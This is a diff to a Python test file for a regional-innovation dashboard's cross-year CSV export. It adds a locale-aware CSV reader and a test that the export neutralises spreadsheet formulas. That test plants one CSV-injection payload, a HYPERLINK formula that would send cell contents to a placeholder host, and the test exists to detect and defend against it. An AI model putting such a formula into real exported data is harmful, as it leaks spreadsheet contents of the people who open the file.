@@ -11,6 +11,7 @@ import pytest
 
 from dasbor.__main__ import main
 from dasbor.cli import lintas_tahun as lintas_cli
+from dasbor.db import terbitan
 from dasbor.db.connection import Database
 from dasbor.services.lintas_tahun import lintas_tahun_db
 
@@ -23,9 +24,20 @@ def env(demo_db: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     return demo_db
 
 
+def _baca_csv(keluar: str) -> pd.DataFrame:
+    """The CLI's CSV as Excel in an Indonesian locale reads it (dasbor.ekspor.tabel.ke_csv)."""
+    return pd.read_csv(
+        io.BytesIO(keluar.encode()),
+        sep=";",
+        decimal=",",
+        encoding="utf-8-sig",
+        dtype={"kode_wilayah": str, "id_inovasi": str, "nama_inovasi": str},
+    )
+
+
 def test_csv_lists_every_flagged_innovation_of_the_regions(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["lintas-tahun", "--tahun", "2025", "--wilayah", "63.72", "63.02"]) == 0
-    keluar = pd.read_csv(io.StringIO(capsys.readouterr().out), dtype={"kode_wilayah": str, "id_inovasi": str})
+    keluar = _baca_csv(capsys.readouterr().out)
     assert list(keluar.columns) == KOLOM
     db = Database(env, read_only=True)
     try:
@@ -68,4 +80,22 @@ def test_misuse_exits_2_with_a_message(env: Path, capsys: pytest.CaptureFixture[
 def test_first_year_has_nothing_to_compare(env: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["lintas-tahun", "--tahun", "2021"]) == 0
     keluar = capsys.readouterr()
-    assert keluar.out.strip() == ",".join(KOLOM) and "tidak ada yang dapat dibandingkan" in keluar.err
+    assert keluar.out.strip().lstrip("\ufeff") == ";".join(KOLOM) and "tidak ada yang dapat dibandingkan" in keluar.err
+
+
+def test_csv_never_hands_a_spreadsheet_a_formula(
+    salinan_db: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """An innovation named like a formula (typed by an operator) arrives in the CSV as text, as in every other
+    table the dashboard writes."""
+    rumus = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
+    with terbitan.penulis(salinan_db, paksa=True) as db, db.transaction() as cur:
+        cur.execute("UPDATE inovasi SET nama_inovasi = ? WHERE kode_wilayah = '63.72'", [rumus])
+    monkeypatch.setenv("DASBOR_DB", str(salinan_db))
+    try:
+        assert main(["lintas-tahun", "--tahun", "2025", "--wilayah", "63.72"]) == 0
+    finally:
+        terbitan.tutup_semua()
+    keluar = _baca_csv(capsys.readouterr().out)
+    assert len(keluar) > 0
+    assert (keluar["nama_inovasi"] == "'" + rumus).all()
